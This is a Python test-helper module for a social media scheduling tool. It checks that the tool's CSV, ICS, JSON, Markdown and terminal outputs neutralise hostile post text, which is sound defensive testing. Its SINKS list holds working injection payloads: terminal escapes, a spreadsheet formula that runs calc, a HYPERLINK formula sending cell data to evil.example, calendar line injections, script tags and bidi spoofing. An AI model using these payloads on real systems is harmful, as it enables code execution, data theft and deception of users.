"""What must hold of every emitter's bytes, whatever post text says; the tests beside this file call these checks.

Nothing here uses what it checks: characters, prefixes, escapes and line counts are written out a second time.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from datetime import date, datetime, timedelta
from itertools import pairwise
from pathlib import Path
from typing import get_args
from zoneinfo import ZoneInfo

from icalendar import Calendar, Event
from markdown_it import MarkdownIt
from rich.cells import cell_len

from socialctl.emitters import EMITTERS, Wanted
from socialctl.emitters.csv import COLUMNS, unprefixed
from socialctl.model.policy import Policy
from socialctl.model.schedule import Entry, LeftOut, MediaShown, Schedule
from socialctl.model.screen import Screen
from socialctl.model.slot import CONSENTED, Slot, State
from socialctl.platforms.register import register
from socialctl.store import policy_file
from socialctl.store.snapshot import of_work_tree

# Those that make one text of a schedule; the checks of the others stand beside them (tests/emitters/test_<name>.py).
ONE_TEXT = ("table", "month", "json", "csv", "markdown", "ics")
FOLDERS: tuple[str, ...] = ("html", "buffer", "publer")
_POLICY = policy_file.load_valid(of_work_tree(Path(__file__).resolve().parent.parent.parent))
# Without an address for pictures: suites that need one say which.
POLICY = _POLICY.model_copy(update={"calendar": _POLICY.calendar.model_copy(update={"media_base_url": None})})
WIDTHS = (80, 40)
STATES: tuple[State, ...] = get_args(State)
SYMBOLS: Mapping[State, str] = dict(zip(STATES, "·○◐●✗■‖✓◌", strict=True))

# What a program may run, hide or misread: one payload a sink, made for this project.
SINKS = (
    # terminals
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mC1 without ESC",
    "\x9d0;title\x9c",
    "safe\rEVIL",
    "\x08\x08\x08back",
    "\x7fdel",
    "bell\x07",
    "null\x00byte",
    "\x85next line",
    "\udc9b31m a byte that is no UTF-8",
    "\ud800",
    # rich
    "[black on black]NOT APPROVED[/]",
    "[/]",
    "[/etc/passwd]",
    "[bold]x",
    "[beta] tool",
    "[link=https://evil.example]x[/link]",
    ":house: :smiley:",
    "\\[red]",
    "ends in a backslash\\",
    # bidi and invisible characters
    "abc\u202efdp.exe",
    "\u202a\u202b\u202d\u202c",
    "\u2066\u2067\u2068\u2069",
    "zero\u200bwidth\ufeffbom\u00adsoft",
    "\U000e0041\U000e0042 tags",
    # line ends
    "title\u2028draft: true",
    "title\u2029draft: true",
    "a\vb\fc\x1cd\x1de\x1ef",
    "a\r\nb\rc\nd",
    # spreadsheets
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    'quote " and , and ; inside',
    '","=1+1","',
    # iCalendar
    "x\nDTSTART:evil",
    "x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "x\rATTENDEE:mailto:evil@example.org",
    "END:VEVENT\nBEGIN:VEVENT",
    "C:\\New\\nope\\; \\, \\\\n",
    'a;b,c:d"e\\N',
    "ə" * 100,
    "x" * 74 + "👩‍👩‍👧",
    # Markdown and HTML
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "https://evil.example www.evil.example me@evil.example",
    "<https://evil.example>",
    "# heading",
    "a\n===\n",
    "a\n---\n",
    "- item\n1. item\n> quote\n    code",
    "*em* **strong** __u__ _e_ ~~s~~ `code` $x$ ^s^",
    "| a | b |\n|---|---|\n| c | d |",
    "```\n# out of the fence\n```",
    "````text\n~~~~\n`````",
    "[ref]: https://evil.example",
    "&lt;b&gt; &#35; &amp;",
    "@mention #1 :tada:",
    "hard  \nbreak\\\nbreak",
    # JSON
    '"},{"post": "evil',
    "\\u0022 \\",
    "</script><!--",
    # plain, and letters of every width
    "",
    " ",
    "Açıq Giriş Həftəsi: «Xəmsə», İ ı Ş ş Ğ ğ",
    "漢字仮名" * 20,
    "👨‍👩‍👧‍👦 🇦🇿 ✈️",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
)


def schedule_of(*payloads: str, organisation: str = "Library") -> Schedule:
    """A schedule in which each payload stands wherever a post can put words; three slots each, two of one post."""
    at = datetime(2026, 10, 19, 10, tzinfo=ZoneInfo("Asia/Baku"))
    entries: list[Entry] = []
    for number, payload in enumerate(payloads):
        media = (MediaShown("media/a.jpg", payload, "sha256:" + "0" * 64), MediaShown(f"https://example.org/{payload}"))
        with_title = Slot(f"x{number}", "youtube", "youtube", "@library", at, payload, payload)
        without = Slot(f"x{number}", "instagram", "instagram", payload, at, payload)
        path = f"content/posts/{payload}.md"
        first = Entry(without, "approved", path, payload, "text", "event", "leyla", (payload,), media, campaign="week")
        then = without._replace(
            account="facebook", at=at + timedelta(minutes=10), text=f"{payload}!", title=f"{payload}?"
        )
        entries += [
            first,
            replace(first, slot=then),
            Entry(with_title, "ready", path, "another title"),
        ]
    return Schedule(
        first=date(2026, 10, 1),
        last=date(2026, 10, 31),
        zone="Asia/Baku",
        organisation=organisation,
        repo="library",
        entries=tuple(entries),
        left_out=tuple(
            LeftOut(replace(entry, state="blocked"), ("it has an error", entry.slot.text)) for entry in entries[2::3]
        ),
    )


def wanted(screen: Screen | None = None, policy: Policy | None = None) -> Wanted:
    """What a schedule is written with where nothing else is asked for, for the accounts of this project's policy."""
    policy = policy or POLICY
    return Wanted(screen or Screen(), policy, register(policy), lambda _: None)


def emitted(name: str, schedule: Schedule, screen: Screen | None = None, policy: Policy | None = None) -> bytes:
    """The bytes of one emitter."""
    (file,) = EMITTERS[name](schedule, wanted(screen, policy)).files
    return file.data


def check_deterministic(name: str, schedule: Schedule) -> None:
    """The same schedule gives the same bytes."""
    assert emitted(name, schedule) == emitted(name, schedule), f"{name} is not deterministic"


def check_every_emitter(schedule: Schedule) -> int:
    """Every emitter on that schedule, terminals at every width; how many outputs were looked at."""
    for name, check in CHECKS.items():
        check(schedule, emitted(name, schedule))
    for name in TERMINAL:
        for width in WIDTHS:
            check_terminal(name, schedule, emitted(name, schedule, Screen(width)), width)
    return len(CHECKS) + len(TERMINAL) * len(WIDTHS)


def is_control(character: str, *, line_feed: bool = True) -> bool:
    """Whether no file for people may hold it: C0 (but for the line feed), DEL, C1, separators, surrogates."""
    if line_feed and character == "\n":
        return False
    return unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp")


def is_bidi(character: str) -> bool:
    """Whether it turns the direction of what follows."""
    return unicodedata.bidirectional(character) in ("LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI")


def check_no_controls(text: str) -> None:
    """No control characters but line feeds, and no lone surrogates."""
    found = sorted({f"U+{ord(character):04X}" for character in text if is_control(character)})
    assert not found, f"control characters: {found}"


def check_screen(text: str) -> None:
    """Text that may be sent to a terminal: no control characters and none that turn or hide."""
    check_no_controls(text)
    found = sorted({f"U+{ord(character):04X}" for character in text if is_bidi(character)})
    assert not found, f"bidi characters: {found}"
    assert not re.search("[\u00ad\u200b\u200e\u200f\ufeff\U000e0000-\U000e007f]", text), "invisible characters"


def machine(text: str) -> str:
    """What a text becomes in CSV and ICS: tabs as spaces, controls as <U+XXXX>, everything else as it is."""
    text = text.replace("\t", " ")
    return "".join(f"<U+{ord(one):04X}>" if is_control(one) else one for one in text)


def squeezed(text: str) -> str:
    """Text without any white space, to compare what was wrapped."""
    return "".join(text.split())


def when(slot: Slot) -> datetime:
    """The slot's instant, which every slot of a schedule has."""
    assert slot.at is not None
    return slot.at


# --- JSON ---------------------------------------------------------------------------------------------------

_RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", re.ASCII)


def check_json(schedule: Schedule, data: bytes) -> None:
    """CONTRACT.md: the schema first, no nulls, RFC 3339, the required keys; and every text as it went in."""
    text = data.decode("utf-8")
    check_screen(text)
    assert text.endswith("}\n")
    document = json.loads(text, parse_constant=_refuse)
    assert list(document) == ["schema", "from", "to", "zone", "slots", "left_out"]
    assert None not in set(_leaves(document))
    assert document == {
        "schema": "socialctl/calendar/v1",
        "from": schedule.first.isoformat(),
        "to": schedule.last.isoformat(),
        "zone": schedule.zone,
        "slots": [_json_entry(entry) for entry in schedule.entries],
        "left_out": [_json_left_out(out) for out in schedule.left_out],
    }
    meant = [entry.slot for entry in schedule.entries] + [out.slot for out in schedule.left_out]
    for found, slot in zip((*document["slots"], *document["left_out"]), meant, strict=True):
        assert _RFC3339.fullmatch(found["at"])
        # Times that the clocks skip or repeat are equal to nothing (PEP 495); their instants are.
        assert datetime.fromisoformat(found["at"]).timestamp() == when(slot).timestamp()
    needed = {"post", "account", "platform", "at", "text", "state", "media", "path", "approvals"}
    assert all(needed <= set(found) for found in document["slots"])


def _refuse(constant: str) -> object:
    raise AssertionError(f"{constant} is no JSON")


def _leaves(value: object) -> Iterator[object]:
    if isinstance(value, dict):
        for inner in value.values():
            yield from _leaves(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _leaves(inner)
    else:
        yield value


def _json_entry(entry: Entry) -> dict[str, object]:
    slot = entry.slot
    expected: dict[str, object] = {
        "post": slot.post,
        "account": slot.account,
        "platform": slot.platform,
        "at": when(slot).isoformat(),
        "text": slot.text,
        "state": entry.state,
        "language": list(entry.language),
        "path": entry.path,
        "approvals": [],
        "media": [
            {"path": item.path, "alt": item.alt} | ({"digest": item.digest} if item.digest else {})
            for item in entry.media
        ],
    }
    optional = {
        "handle": slot.handle,
        "title": slot.title or entry.title,
        "type": entry.type,
        "purpose": entry.purpose,
        "campaign": entry.campaign,
        "author": entry.author,
    }
    return expected | {key: value for key, value in optional.items() if value}


def _json_left_out(out: LeftOut) -> dict[str, object]:
    place = {"post": out.slot.post, "account": out.slot.account, "at": when(out.slot).isoformat()}
    return {**place, "state": out.state, "reasons": list(out.reasons)}


# --- CSV ----------------------------------------------------------------------------------------------------

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def check_csv(schedule: Schedule, data: bytes) -> None:
    """RFC 4180; no cell a spreadsheet would run; every cell as it went in, once the prefix is taken off."""
    text = data.decode("utf-8")
    check_no_controls(text.replace("\r\n", ""))
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert text.count("\r\n") == text.count("\r") == len(rows) == 1 + len(schedule.entries)
    assert text.endswith("\r\n")
    assert rows[0] == list(COLUMNS)
    for row, entry in zip(rows[1:], schedule.entries, strict=True):
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not cell.lstrip(" ").startswith(RUNS), f"a spreadsheet would run {cell!r}"
        found = dict(zip(COLUMNS, map(unprefixed, row), strict=True))
        assert found == {key: machine(value) for key, value in _csv_row(entry, schedule.zone).items()}


def _csv_row(entry: Entry, zone: str) -> dict[str, str]:
    slot, at = entry.slot, when(entry.slot)
    days = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
    return {
        "date": at.isoformat()[:10],
        "weekday": days[at.weekday()],
        "time": at.isoformat()[11:16],
        "zone": zone,
        "account": slot.account,
        "platform": slot.platform,
        "state": entry.state,
        "type": entry.type,
        "purpose": entry.purpose,
        "title": slot.title or entry.title,
        "text": slot.text,
        "media": "\n".join(item.path for item in entry.media),
        "alt text": "\n".join(item.alt for item in entry.media),
        "language": " ".join(entry.language),
        "author": entry.author,
        "post": slot.post,
        "path": entry.path,
        "campaign": entry.campaign,
    }


# --- ICS ----------------------------------------------------------------------------------------------------

_FEED = ("BEGIN", "VERSION", "PRODID", "NAME", "REFRESH-INTERVAL", "X-PUBLISHED-TTL", "X-WR-CALNAME", "X-WR-TIMEZONE")
_EVENT = (
    "BEGIN",
    "SUMMARY",
    "DTSTART",
    "DURATION",
    "DTSTAMP",
    "UID",
    "SEQUENCE",
    "CATEGORIES",
    "DESCRIPTION",
    "STATUS",
    "TRANSP",
    "END",
)
_UTC = re.compile(r"\d{8}T\d{6}Z", re.ASCII)


def check_ics(schedule: Schedule, data: bytes) -> None:
    """RFC 5545: our lines and no other, folded at 75 octets, UTC, stable UIDs, texts as they went in."""
    check_no_controls(data.decode("utf-8").replace("\r\n", ""))
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert data.endswith(b"\r\n")
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    assert all(line.decode("utf-8") is not None for line in data.split(b"\r\n")), "folded inside a character"
    lines = data.replace(b"\r\n ", b"").decode("utf-8").removesuffix("\r\n").split("\r\n")
    names = [re.split("[:;]", line, maxsplit=1)[0] for line in lines]
    changed = [*(one.changed for one in schedule.entries), *(one.changed for one in schedule.cancelled)]
    told = [at for at in changed if at is not None]
    number = len(schedule.entries) + len(schedule.cancelled)
    meant = (*_FEED, *_EVENT * number, *("LAST-MODIFIED",) * len(told), "END")
    assert Counter(names) == Counter(meant), "a line was added or lost"
    assert lines[0] == "BEGIN:VCALENDAR"
    assert lines[-1] == "END:VCALENDAR"

    feed = Calendar.from_ical(data)
    assert isinstance(feed, Calendar)
    assert _read(str(feed["NAME"])) == machine(f"{schedule.organisation}: social media")
    events = feed.events
    assert len(events) == number
    assert len({str(event["UID"]) for event in events}) == len(events)
    for event, entry in zip(events[: len(schedule.entries)], schedule.entries, strict=True):
        slot = entry.slot
        state = "" if entry.state in CONSENTED else f"[{entry.state}] "
        assert str(event["UID"]) == f"{slot.post}.{slot.account}@{schedule.repo}"
        assert str(event["SUMMARY"]) == machine(f"{state}{slot.account}: {slot.title or entry.title}")
        pictures = "\n".join(f"{item.path}: {item.alt or 'no alt text'}" for item in entry.media)
        hour = f"{when(slot).isoformat()[:16].replace('T', ' ')} ({schedule.zone})"
        words = "\n\n".join(part for part in (slot.text, pictures, hour) if part)
        assert str(event["DESCRIPTION"]) == machine(words)
        assert str(event["STATUS"]) == ("CONFIRMED" if entry.state in CONSENTED else "TENTATIVE")
        assert event.categories == [name for name in (slot.platform, entry.campaign) if name]
        assert event.start == when(slot)
        assert event["SEQUENCE"] == entry.sequence
        _check_changed(event, entry.changed or when(slot), is_told=entry.changed is not None)
    for event, gone in zip(events[len(schedule.entries) :], schedule.cancelled, strict=True):
        assert str(event["UID"]) == f"{gone.post}.{gone.account}@{schedule.repo}"
        assert (str(event["STATUS"]), event.start, event["SEQUENCE"]) == ("CANCELLED", gone.at, gone.sequence)
        assert str(event["SUMMARY"]) == f"[cancelled] {gone.account}: {gone.post}"
        _check_changed(event, gone.changed, is_told=True)
    instants = ("DTSTART", "DTSTAMP", "LAST-MODIFIED")
    times = [line.partition(":")[2] for line in lines if line.startswith(instants)]
    assert len(times) == 2 * number + len(told)
    assert all(_UTC.fullmatch(time) for time in times)


def _check_changed(event: Event, at: datetime, *, is_told: bool) -> None:
    """What programs compare: LAST-MODIFIED where a statement says it, and DTSTAMP the same."""
    assert event.DTSTAMP.timestamp() == int(at.timestamp())
    assert (event.LAST_MODIFIED is not None) == ("LAST-MODIFIED" in event) == is_told
    assert not is_told or event.LAST_MODIFIED == event.DTSTAMP


def _read(wire: str) -> str:
    """A TEXT value as RFC 5545 reads it; icalendar does so for the properties it knows."""
    return re.sub(r"\\([\\,;nN])", lambda found: "\n" if found[1] in "nN" else found[1], wire)


# --- Markdown -----------------------------------------------------------------------------------------------

_BLOCKS = {
    f"{name}_{side}" for name in ("heading", "paragraph", "bullet_list", "list_item") for side in ("open", "close")
} | {"inline", "fence"}
_COMMONMARK = MarkdownIt("commonmark")
_GITHUB = MarkdownIt("gfm-like")


def together(schedule: Schedule) -> list[list[Entry]]:
    """The slots of the schedule, those of one post on one day together: as tables and documents show them."""
    groups: dict[tuple[object, ...], list[Entry]] = {}
    for entry in sorted(schedule.entries, key=lambda entry: when(entry.slot).date()):
        key = (when(entry.slot).date(), entry.slot.post, entry.path, entry.state, entry.media)
        groups.setdefault(key, []).append(entry)
    return list(groups.values())


def follows(first: Entry, entry: Entry) -> str:
    """How a slot follows the first one of its group."""
    return "and" if when(first.slot).timestamp() == when(entry.slot).timestamp() else "then"


def title_of(entry: Entry) -> str:
    """What is shown as the title of a slot."""
    return entry.slot.title or entry.title


def check_markdown(schedule: Schedule, data: bytes) -> None:
    """Parsed, it holds our headings, lists and fences, and no markup that came from a post."""
    text = data.decode("utf-8")
    check_screen(text)
    groups = together(schedule)
    days = len(dict.fromkeys(when(entry.slot).date() for entry in schedule.entries))
    headings = 1 + days + len(schedule.entries) + bool(schedule.left_out)
    texts = [
        entry.slot.text
        for group in groups
        for entry in group
        if entry is group[0] or entry.slot.text != group[0].slot.text
    ]
    meant = [title for group in groups for title in _markdown_titles(group)]
    for parser in (_COMMONMARK, _GITHUB):
        tokens = parser.parse(text)
        assert {token.type for token in tokens} <= _BLOCKS
        inside = {child.type for token in tokens for child in token.children or ()}
        assert inside <= {"text", "text_special"}, f"markup in a line: {inside}"
        assert sum(token.type == "heading_open" for token in tokens) == headings
        fences = [token.content for token in tokens if token.type == "fence"]
        assert [squeezed(fence) for fence in fences] == [squeezed(_seen(shown)) for shown in texts]
        titles = [
            "".join(child.content for child in line.children or ())
            for mark, line in pairwise(tokens)
            if mark.type == "heading_open" and mark.tag in ("h3", "h4")
        ]
        assert list(map(squeezed, titles)) == [squeezed(_seen(" ".join(title.split()))) for title in meant]


def _markdown_titles(group: list[Entry]) -> Iterator[str]:
    first = group[0]
    for entry in group:
        place = f"{when(entry.slot):%H:%M} {entry.slot.account}"
        if entry is first:
            yield f"{place}: {title_of(entry)}"
        elif title_of(entry) == title_of(first):
            yield f"{follows(first, entry)} {place}"
        else:
            yield f"{follows(first, entry)} {place}: {title_of(entry)}"


# --- Terminals ----------------------------------------------------------------------------------------------

_HIDDEN = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\uffa0"
    "\ufff9-\ufffb\U000e0000-\U000e0fff]"
)
_ROW = re.compile(rf"^ (\d\d:\d\d)  ([{''.join(SYMBOLS.values())}]) ({'|'.join(STATES)}) ")


def _seen(text: str) -> str:
    """A text as people see it: what turns or hides is named."""
    return _HIDDEN.sub(lambda found: f"<U+{ord(found.group()):04X}>", machine(text))


def check_terminal(name: str, schedule: Schedule, data: bytes, width: int) -> None:
    """No escape sequences, nothing beyond the screen's width, every state by symbol and word, every title whole."""
    text = data.decode("utf-8")
    check_screen(text)
    for line in text.split("\n"):
        assert cell_len(line) <= width, f"{cell_len(line)} cells: {line!r}"
        assert line == line.rstrip(), "spaces at the end of a line"
    (_check_table if name == "table" else _check_month)(schedule, text, width)


def _check_table(schedule: Schedule, text: str, width: int) -> None:
    rows = [_ROW.match(line) for line in text.split("\n")]
    found = [row.groups() for row in rows if row]
    groups = together(schedule)
    assert found == [
        (f"{when(entry.slot):%H:%M}", SYMBOLS[entry.state], entry.state) for group in groups for entry in group
    ]
    packed = squeezed(text)
    for group in groups:
        for entry in group:
            assert _table_cells(group[0], entry, width) in packed, "a title is not whole"


def _table_cells(first: Entry, entry: Entry, width: int) -> str:
    title = "" if entry is not first and title_of(entry) == title_of(first) else title_of(entry)
    shown = squeezed(_seen(" ".join(title.split())))
    if len(entry.slot.account) > 16 or width < 80:
        return shown
    account = entry.slot.account if entry is first else f"{follows(first, entry)}{entry.slot.account}"
    return f"{SYMBOLS[entry.state]}{entry.state}{account}{shown}"


def _check_counted(schedule: Schedule, text: str) -> None:
    counted = re.findall(r"^(\d+) slots? left out\.$", text, re.MULTILINE)
    assert counted[-1:] == [str(len(schedule.left_out))] * bool(schedule.left_out)


def _check_month(schedule: Schedule, text: str, width: int) -> None:
    drawn = dict(_month_cells(schedule, text, (width - 8) // 7))
    for day, lines in drawn.items():
        _check_day([group for group in together(schedule) if when(group[0].slot).date() == day], lines)
    assert {when(entry.slot).date() for entry in schedule.entries} <= set(drawn)
    for state in STATES:
        number = sum(entry.state == state for entry in schedule.entries)
        assert bool(re.search(rf"{SYMBOLS[state]}\s+{state}", text)) == bool(number), f"{state} is not explained"
    _check_counted(schedule, text)


def _check_day(groups: list[list[Entry]], lines: list[str]) -> None:
    """Every slot of a day is drawn in its order or counted; the first of a post with the mark of its state."""
    slots = [line for line in lines if re.match(rf"[{''.join(SYMBOLS.values())} ]\d\d([:* ]|$)", line)]
    more = [int(found[1]) for line in lines if (found := re.match(r"\+(\d+)( more)?$", line))]
    meant = [
        f"{SYMBOLS[entry.state] if entry is group[0] else ' '}{when(entry.slot):%H}"
        for group in groups
        for entry in group
    ]
    titled = [line for line in slots if line[:3] in meant]  # a title may look like a time
    assert len(meant) - sum(more) <= len(titled), (meant, lines)
    if not more:
        place = iter(titled)
        assert all(any(line.startswith(wanted) for line in place) for wanted in meant), (meant, lines)


def _month_cells(schedule: Schedule, text: str, width: int) -> Iterator[tuple[date, list[str]]]:
    """Each day of the period with the lines below its number: no other day has one, and none is missing."""
    days = iter(
        [schedule.first + timedelta(days=number) for number in range((schedule.last - schedule.first).days + 1)]
    )
    rows: list[list[str]] = []
    for line in text.split("\n"):
        if line.startswith("|"):
            rows.append(_split(line, width))
        elif rows and line.startswith("+-"):
            for number, *lines in zip(*rows, strict=True):
                if number[:1].isdigit():
                    day = next(days)
                    assert re.match(rf"{day.day}(?!\d)", number), (day, number)
                    yield day, [cell.rstrip() for cell in lines]
            rows = []
    assert next(days, None) is None, "a day of the period is not drawn"


def _split(line: str, width: int) -> list[str]:
    """The seven cells of a line, by their width on the screen."""
    cells, cell = [], ""
    for character in line[1:]:
        if cell_len(cell) >= width and character == "|":
            cells.append(cell)
            cell = ""
        else:
            cell += character
    assert len(cells) == 7, line
    return cells


TERMINAL = ("table", "month")
CHECKS: Mapping[str, Callable[[Schedule, bytes], None]] = {
    "json": check_json,
    "csv": check_csv,
    "ics": check_ics,
    "markdown": check_markdown,
}
